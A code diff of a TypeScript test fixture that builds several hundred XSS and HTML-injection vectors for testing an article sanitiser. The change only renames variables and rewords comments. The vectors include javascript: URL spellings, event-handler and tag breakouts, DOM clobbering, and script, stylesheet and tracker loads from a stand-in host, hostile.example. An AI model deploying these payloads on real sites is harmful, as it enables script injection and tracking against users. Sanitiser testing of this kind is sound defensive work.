@@ -1,16 +1,16 @@
 /**
  * Hostile HTML, put together from tags, attributes, schemes, encodings and the tricks that make a sanitiser and a browser
- * read the same text differently. Whatever runs calls `HIT`; whatever loads asks `hostile.example`.
+ * read the same text differently. Scripts set `window.__hit`; external resources are on `hostile.example`.
  */
 
-/** The script of every vector; on a broken page, `window.__hit` is set. */
+/** The script of every vector; where it runs, the page is vulnerable. */
 const hit = "window.__hit=1";
-const elsewhere = "https://hostile.example";
+const hostileOrigin = "https://hostile.example";
 
-const encode = (text: string, how: (code: number) => string) =>
-  Array.from(text, (sign) => how(sign.codePointAt(0) ?? 0)).join("");
+const encode = (text: string, encodeChar: (code: number) => string) =>
+  Array.from(text, (char) => encodeChar(char.codePointAt(0) ?? 0)).join("");
 
-/** `javascript:` as browsers understand it and filters may not. */
+/** `javascript:` in spellings that browsers accept and filters may miss. */
 const scriptUrls = [
   `javascript:${hit}`,
   `JaVaScRiPt:${hit}`,
@@ -39,7 +39,7 @@ const scriptUrls = [
   `filesystem:${hit}`,
 ];
 
-/** Where a URL stands. */
+/** Positions of a URL in markup. */
 const urlAttributes = (url: string) => [
   `<a href="${url}">a</a>`,
   `<img src="${url}">`,
@@ -78,7 +78,7 @@ const events = [
   "formaction onerror",
 ];
 
-/** Ways of writing one attribute. */
+/** Spellings of one attribute. */
 const quotings = [
   (name: string) => `${name}="${hit}"`,
   (name: string) => `${name}='${hit}'`,
@@ -145,7 +145,7 @@ const breakouts = [
   `]]><script>${hit}</script>`,
   `<scr<script>ipt>${hit}</scr</script>ipt>`,
   `<<script>${hit}//<</script>`,
-  `<script src=${elsewhere}/x.js></script>`,
+  `<script src=${hostileOrigin}/x.js></script>`,
   `<script\n>${hit}</script\n>`,
   `<script/x>${hit}</script/x>`,
   `<script>${hit}`,
@@ -161,7 +161,7 @@ const breakouts = [
   `<img src="x\u0060 \u0060onerror=${hit}">`,
   `<img src=x:x onerror=${hit} //`,
   `<img src="x" title="><img src=y onerror=${hit}>">`,
-  `<img src=/media/x.png srcset="${elsewhere}/a.png 1x" onerror=${hit}>`,
+  `<img src=/media/x.png srcset="${hostileOrigin}/a.png 1x" onerror=${hit}>`,
   `<image src=x onerror=${hit}>`,
   `<!--><img src=x onerror=${hit}>-->`,
   `<!--!><img src=x onerror=${hit}>-->`,
@@ -199,23 +199,23 @@ const breakouts = [
   `<iframe src="//open.spotify.com/embed/episode/x"onload=${hit}"></iframe>`,
   `<figure data-embed="https://www.youtube.com/watch?v=abcdef" onclick=${hit}><a href="javascript:${hit}">w</a></figure>`,
   `<object data="data:text/html,<script>${hit}</script>"></object>`,
-  `<object data=${elsewhere}/x.swf><param name=movie value=javascript:${hit}></object>`,
+  `<object data=${hostileOrigin}/x.swf><param name=movie value=javascript:${hit}></object>`,
   `<embed src=javascript:${hit}>`,
-  `<embed code=${elsewhere}/x.swf allowscriptaccess=always>`,
+  `<embed code=${hostileOrigin}/x.swf allowscriptaccess=always>`,
   `<applet code=x onerror=${hit}></applet>`,
-  `<link rel=stylesheet href=${elsewhere}/x.css>`,
-  `<link rel=import href=${elsewhere}/x.html>`,
-  `<link rel=preload as=script href=${elsewhere}/x.js onload=${hit}>`,
+  `<link rel=stylesheet href=${hostileOrigin}/x.css>`,
+  `<link rel=import href=${hostileOrigin}/x.html>`,
+  `<link rel=preload as=script href=${hostileOrigin}/x.js onload=${hit}>`,
   `<meta http-equiv=refresh content="0;url=javascript:${hit}">`,
-  `<meta http-equiv=refresh content="0;url=${elsewhere}/">`,
+  `<meta http-equiv=refresh content="0;url=${hostileOrigin}/">`,
   `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
-  `<base href=${elsewhere}/>`,
+  `<base href=${hostileOrigin}/>`,
   `<base target=_top>`,
-  `<style>@import url(${elsewhere}/x.css)</style>`,
-  `<style>*{background:url(${elsewhere}/x.png)}</style>`,
+  `<style>@import url(${hostileOrigin}/x.css)</style>`,
+  `<style>*{background:url(${hostileOrigin}/x.png)}</style>`,
   `<style>@keyframes x{}</style><p style="animation:x" onanimationstart=${hit}>p</p>`,
-  `<p style="background:url(${elsewhere}/x.png)">p</p>`,
-  `<p style="behavior:url(${elsewhere}/x.htc);-moz-binding:url(${elsewhere}/x.xml)">p</p>`,
+  `<p style="background:url(${hostileOrigin}/x.png)">p</p>`,
+  `<p style="behavior:url(${hostileOrigin}/x.htc);-moz-binding:url(${hostileOrigin}/x.xml)">p</p>`,
   `<p style="position:fixed;inset:0;z-index:9999">over everything</p>`,
   `<p id="root" class="skip-link" name="location">clobbering</p>`,
   `<form id=x></form><button form=x formaction=javascript:${hit}>b</button>`,
@@ -226,21 +226,21 @@ const breakouts = [
   `<audio src=x onerror=${hit}></audio>`,
   `<video><source src=x onerror=${hit}></video>`,
   `<video poster=javascript:${hit}></video>`,
-  `<picture><source srcset=${elsewhere}/x.png><img src=/x.png onerror=${hit}></picture>`,
-  `<img src="${elsewhere}/tracker.png" alt="tracker">`,
-  `<a href="/ok"><img src="${elsewhere}/tracker.png" alt="tracker in a link"></a>`,
+  `<picture><source srcset=${hostileOrigin}/x.png><img src=/x.png onerror=${hit}></picture>`,
+  `<img src="${hostileOrigin}/tracker.png" alt="tracker">`,
+  `<a href="/ok"><img src="${hostileOrigin}/tracker.png" alt="tracker in a link"></a>`,
   `<img src="/\\hostile.example/x.png">`,
   `<img src="\\\\hostile.example\\x.png">`,
   `<img src="//hostile.example/x.png">`,
   `<img lowsrc=javascript:${hit} dynsrc=javascript:${hit}>`,
-  `<portal src=${elsewhere}></portal>`,
+  `<portal src=${hostileOrigin}></portal>`,
   `<frameset onload=${hit}><frame src=javascript:${hit}></frameset>`,
   `<dialog open onclose=${hit}>d</dialog>`,
   `<p popover=auto onbeforetoggle=${hit} contenteditable autofocus onfocus=${hit} tabindex=1>p</p>`,
   `<custom-element onclick=${hit}>c</custom-element>`,
   `<slot onslotchange=${hit}></slot>`,
   `<p is="x" slot="y" part="z" itemscope itemprop=url content=javascript:${hit}>p</p>`,
-  `<a href="x" ping="${elsewhere}/ping" target="_blank" rel="opener">a</a>`,
+  `<a href="x" ping="${hostileOrigin}/ping" target="_blank" rel="opener">a</a>`,
   `<a href="https://a.example/" title='"><script>${hit}</script>'>t</a>`,
   `<a href="https://a.example/?x=</script><script>${hit}</script>">t</a>`,
   `<a href="https://a.example/&quot;onmouseover=&quot;${hit}">t</a>`,
@@ -262,7 +262,7 @@ const breakouts = [
   `<p ${"a".repeat(2000)}=1 onclick=${hit}>long</p>`,
 ];
 
-const all = new Set([
+const vectors = new Set([
   ...breakouts,
   ...scriptUrls.flatMap(urlAttributes),
   ...eventTags.flatMap((tag, t) =>
@@ -272,22 +272,22 @@ const all = new Set([
   ...nested,
 ]);
 
-/** Nothing ends it: what stands behind is text, so these come last. */
+/** Unclosed: everything after them is text, so these come last. */
 const opensPlainText = (vector: string) => vector.includes("<plaintext");
 
 /** Every vector once; more than five hundred. */
 export const hostileVectors: readonly string[] = [
-  ...[...all].filter((vector) => !opensPlainText(vector)),
-  ...[...all].filter(opensPlainText),
+  ...[...vectors].filter((vector) => !opensPlainText(vector)),
+  ...[...vectors].filter(opensPlainText),
 ];
 
-/** Ends whatever a vector may have left open, so that the next one is read as markup again. */
+/** Closes whatever a vector left open, so that the next one is parsed as markup again. */
 const closers = `"'>--></script></style></textarea></title></xmp></noembed></noframes></noscript></iframe></template></option></option></option></select></svg></math></plaintext>`;
 
-/** Text behind a vector that shows whether the page still reads on. */
+/** Text after a vector, which shows whether parsing recovered. */
 export const endMark = (n: number) => `end-of-vector-${n}`;
 
-/** Every vector with its number, what closes it and the mark behind it. */
+/** Every vector with its number, followed by closing tags and a marker. */
 export const markedVectors = hostileVectors.map((vector, n) => `${vector}${closers}<p>${endMark(n)}</p>`);
 
 /** The fields of a stored article that contain HTML (spec 3). */
@@ -305,11 +305,11 @@ export function hostileArticles(): HostileArticle[] {
   return Array.from({ length: articleCount }, (_, article) => {
     const parts = Object.fromEntries(
       htmlFields.map((field, f) => {
-        const mine = markedVectors.filter(
+        const ofField = markedVectors.filter(
           (_, n) => n % (articleCount * htmlFields.length) === article * htmlFields.length + f,
         );
-        // PostgreSQL stores no NUL; vectors with one are tried without a database.
-        return [field, mine.join("\n").replaceAll("\0", "")];
+        // PostgreSQL stores no NUL; vectors with one are tested without a database.
+        return [field, ofField.join("\n").replaceAll("\0", "")];
       }),
     ) as Record<(typeof htmlFields)[number], string>;
     const text = (offset: number) =>
